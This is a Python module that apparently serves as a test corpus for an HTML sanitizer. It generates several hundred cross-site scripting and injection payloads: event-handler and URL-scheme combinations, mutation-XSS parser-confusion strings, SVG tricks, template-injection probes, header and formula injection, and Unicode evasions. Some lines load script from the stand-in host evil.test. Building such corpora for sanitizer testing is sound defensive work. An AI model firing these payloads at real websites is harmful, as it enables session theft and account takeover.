"""Markup that would run something, in every dress it is known to wear."""

from itertools import product

RUNS = "alert(1)"
ELEMENTS = ["img src=x", "svg", "body", "input autofocus", "details open", "video src=x"]
ELEMENTS += ["audio src=x", "iframe", "select autofocus", "marquee", "object data=x", "style"]
EVENTS = ["onerror", "onload", "onfocus", "ontoggle", "onstart", "onpointerrawupdate"]
SCHEMES = ["javascript:", "JaVaScRiPt:", "java\tscript:", "java&#10;script:", "\x01javascript:"]
SCHEMES += ["javascript&colon;", "vbscript:", "data:text/html,<script>", "&#x6A;avascript:"]
CARRIERS = ['<a href="{}">x</a>', '<iframe src="{}">', '<form action="{}"><button>x</form>']
CARRIERS += ['<svg><a xlink:href="{}">x</a></svg>', '<object data="{}">', '<base href="{}">']
CARRIERS += ['<meta http-equiv=refresh content="0;url={}">', '<embed src="{}">']
OTHERS = [
    # Scripts, and what closes what is around them.
    *(
        f"{close}<script>{RUNS}</script>"
        for close in ["", '">', "'>", "-->", "]]>", "</title>"]
    ),
    *(
        f"</{tag}><script>{RUNS}</script>"
        for tag in ["textarea", "style", "script", "noscript"]
    ),
    *("<script src=//evil.test></script>", "<script/x>alert(1)</script>", "<ScRiPt>alert(1)"),
    *("<scr<script>ipt>alert(1)</script>", "\\u003cscript>alert(1)</script>", "<script\x0c>x"),
    "<script type=module>import('//evil.test')</script>",
    # Out of an attribute.
    *('" onfocus=alert(1) autofocus x="', "' onmouseover=alert(1) x='", "` onclick=alert(1)"),
    *('" style="background:url(//evil.test)', "<p style=behavior:url(x)>", '"><a href=//evil'),
    # Parsed once so, and otherwise when it is parsed again.
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src onerror=alert(1)>'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding='text/html'><img src onerror=alert(1)></annotation-xml>",
    "<svg><desc><img src onerror=alert(1)></desc></svg>",
    "<template><img src=x onerror=alert(1)></template>",
    "<xmp><p title='</xmp><img src onerror=alert(1)>'>",
    # SVG by itself.
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)/>#x'/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<svg><script href=data:,alert(1) /></svg>",
    # Templates and formats.
    *(
        "{{7*7}}",
        "${7*7}",
        "{% debug %}",
        "<%= 7*7 %>",
        "#{7*7}",
        "{{constructor.constructor('x')()}}",
    ),
    *(
        "%0d%0aSet-Cookie:x=1",
        "=HYPERLINK('//evil')",
        "[x](javascript:alert(1))",
        "{0.__class__}",
    ),
    # Letters that look like others, or are nothing.
    *(
        "＜script＞alert(1)＜/script＞",
        "<\u200bscript>alert(1)</script>",
        "\u202e<script>",
        "<ſcript>x",
    ),
    *(
        "<img src=x onerror\u3000=alert(1)>",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "&lt;script&gt;x",
    ),
    *(
        "<img/src=`x`onerror=alert(1)>",
        "<img src=x:x onerror=alert(1)//",
        "<!--><img src onerror=x>",
    ),
    # What this site's own markup knows.
    '<a data-ref="person:1" onclick=alert(1)>x</a>',
    '<a data-ref="person:1&quot; onclick=alert(1)">x</a>',
    '<div data-embed="youtube:x&quot; onload=alert(1)" data-title="<img onerror=x>"></div>',
    '<div data-embed="javascript:alert(1)"></div>',
    '<figure data-ref="photo:1"><figcaption><img src onerror=alert(1)></figcaption></figure>',
]
PAYLOADS = [
    *(f"<{element} {event}={RUNS}>" for element, event in product(ELEMENTS, EVENTS)),
    *(carrier.format(f"{scheme}{RUNS}") for carrier, scheme in product(CARRIERS, SCHEMES)),
    *OTHERS,
]
